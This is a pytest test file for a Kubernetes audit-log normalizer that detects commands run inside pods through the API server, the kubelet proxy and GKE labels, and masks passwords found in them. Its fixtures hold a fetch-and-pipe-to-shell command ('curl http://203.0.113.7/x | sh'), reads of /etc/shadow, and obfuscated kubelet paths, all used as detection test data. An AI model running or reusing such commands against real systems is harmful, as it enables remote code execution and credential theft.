"""Commands in pods: native queries, GKE's label, the kubelet behind nodes/proxy."""

import itertools
import json

import pytest
from records import event_of, native, record

from leadsman_common.events import Flag
from leadsman_common.raw import RawEvent
from leadsman_normalizer.facts.exec import exec_facts
from leadsman_normalizer.normalize import normalize

ARGV = ["sh", "-c", "curl http://203.0.113.7/x | sh"]
ENCODED = ("curl+http%3A%2F%2F203.0.113.7%2Fx+%7C+sh", "curl%20http%3a%2f%2f203.0.113.7%2fx%20%7c%20sh")


def opened(uri, verb="get", resource="pods", sub="exec", name="api-0"):
    return exec_facts(verb, resource, sub, "web", name, uri, "")


@pytest.mark.parametrize("encoded", ENCODED)
@pytest.mark.parametrize("verb", ["get", "create"])
def test_every_order_and_both_encodings(encoded, verb):
    commands = f"command=sh&command=-c&command={encoded}"
    for order in itertools.permutations([commands, "container=", "container=app", "stdin=true", "tty=true"]):
        found = opened("/api/v1/namespaces/web/pods/api-0/exec?" + "&".join(order), verb)
        assert found["argv"] == ARGV
        assert found["container"] == "app"
        assert (found["stdin"], found["tty"], found["interactive"]) == (True, True, True)
        assert found["transport"] == {"get": "ws", "create": "post"}[verb]
        assert ARGV[2] in found["command_text"].split("\n")


def test_an_empty_word_stays_a_word():
    assert opened("/x?command=&command=id")["argv"] == ["", "id"]


@pytest.mark.parametrize(
    ("path", "kind", "pod", "container"),
    [
        ("run/web/api-0/app?cmd=cat+/etc/shadow", "kubelet_run", "api-0", "app"),
        ("exec/web/api-0/app?command=cat&command=/etc/shadow", "kubelet_exec", "api-0", "app"),
        ("exec/web/api-0/9f8e/app?command=cat&command=/etc/shadow", "kubelet_exec", "api-0", "app"),
        ("attach/web/api-0/app", "kubelet_attach", "api-0", "app"),
        ("portForward/web/api-0", "kubelet_portforward", "api-0", ""),
    ],
)
def test_the_kubelet_behind_a_node(path, kind, pod, container):
    found = opened(f"/api/v1/nodes/n1/proxy/{path}", resource="nodes", sub="proxy", name="n1")
    assert (found["kind"], found["pod"], found["namespace"], found["container"]) == (kind, pod, "web", container)
    if "cmd" in path or "command" in path:
        assert found["argv"] == ["cat", "/etc/shadow"]


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("%65xec/web/api-0/app", "kubelet_exec"),
        ("pods/../run/web/api-0/app", "kubelet_run"),
        ("/exec/web/api-0/app", "kubelet_exec"),
        ("cri/exec/8YmqT1Lk", "kubelet_exec"),
        ("cri/attach/8YmqT1Lk", "kubelet_attach"),
    ],
)
def test_the_kubelets_paths_spelled_otherwise(path, kind):
    assert opened(f"/api/v1/nodes/n1/proxy/{path}", resource="nodes", sub="proxy", name="n1")["kind"] == kind


@pytest.mark.parametrize(
    ("query", "stdin"),
    [
        ("stdin=true", True),
        ("stdin=1", True),
        ("stdin=yes", True),
        ("stdin=", True),
        ("stdin", True),
        ("stdin=true&stdin=false", True),
        ("stdin=false&stdin=true", False),
        ("stdin=FALSE", False),
        ("stdin=0", False),
        ("stdout=true", False),
    ],
)
def test_booleans_are_read_as_the_server_reads_them(query, stdin):
    assert opened(f"/x?{query}", sub="attach")["stdin"] is stdin


@pytest.mark.parametrize("path", ["metrics", "healthz", "containerLogs/web/api-0/app", ""])
def test_the_kubelets_other_paths_are_no_exec(path):
    assert opened(f"/api/v1/nodes/n1/proxy/{path}", resource="nodes", sub="proxy", name="n1") is None


@pytest.mark.parametrize(("sub", "kind"), [("attach", "attach"), ("portforward", "portforward")])
def test_attach_and_portforward(sub, kind):
    event = event_of(native("create", "pods", ref={"subresource": sub}, responseStatus={"code": 101}))
    assert event["facts"]["exec"]["kind"] == kind
    assert event["flags"] & Flag.HAS_EXEC
    assert event["outcome"]["effective"]


def test_secrets_in_a_command_travel_nowhere():
    words = ("mysql", "--password", "s3cr3t-canary", "-e", "show")
    uri = "/api/v1/namespaces/web/pods/x/exec?" + "&".join(f"command={word}" for word in words)
    event = event_of(native("create", "pods", requestURI=uri, ref={"subresource": "exec"}))
    assert "canary" not in repr(event)
    assert event["facts"]["exec"]["argv"] == ["mysql", "--password", "***", "-e", "show"]
    assert "command=mysql&command=--password&command=***" in event["requestURI"]


def gke(**labels):
    entry = json.loads(record("dangerous-container-command", "gke").value)
    entry["labels"] = {**{k: v for k, v in entry["labels"].items() if not k.startswith("command.")}, **labels}
    event = normalize(RawEvent(json.dumps(entry).encode(), format="gke-logentry"))
    assert isinstance(event, dict)
    return event


@pytest.mark.parametrize(
    ("label", "argv"),
    [("id", ["id"]), ("sh -c 'a b'", ["sh", "-c", "a b"]), ("sh -c it's", ["sh", "-c", "it's"])],
)
def test_gkes_label(label, argv):
    assert gke(**{"command.gke.io/command": label})["facts"]["exec"]["argv"] == argv


def test_gke_says_what_it_does_not_log():
    reasons = gke()["coverage"]["reasons"]
    assert "the command is not logged: no label command.gke.io/command" in reasons
    assert "stdin, tty and container of a stream are not logged on GKE" in reasons


def test_a_label_with_a_password_is_masked_everywhere():
    event = gke(**{"command.gke.io/command": "mysql --password=s3cr3t-canary"})
    assert "canary" not in repr(event)


def test_exec_options_in_a_body_stand_in_for_the_query():
    options = {"command": ["tar", "cf", "-", "/data"], "container": "api", "stdin": True, "tty": "yes"}
    found = exec_facts("create", "pods", "exec", "web", "web-0", "/api/v1/namespaces/web/pods/web-0/exec", "", options)
    assert (found["argv"], found["container"]) == (["tar", "cf", "-", "/data"], "api")
    assert (found["stdin"], found["tty"]) == (True, False)


def test_no_number_of_parameters_hides_the_command():
    uri = "/api/v1/namespaces/web/pods/web-0/exec?" + "x=1&" * 20_000 + "command=cat&command=/etc/shadow"
    assert exec_facts("create", "pods", "exec", "web", "web-0", uri, "")["argv"] == ["cat", "/etc/shadow"]


@pytest.mark.parametrize(
    "label", ["cat /etc/shadow", "cat+%2Fetc%2Fshadow", "cat%20/etc/shadow", "cat \\\n/etc/shadow"]
)
def test_gkes_label_is_read_however_it_is_written(label):
    found = exec_facts("create", "pods", "exec", "web", "web-0", "", label)
    assert found["argv"] == ["cat", "/etc/shadow"]
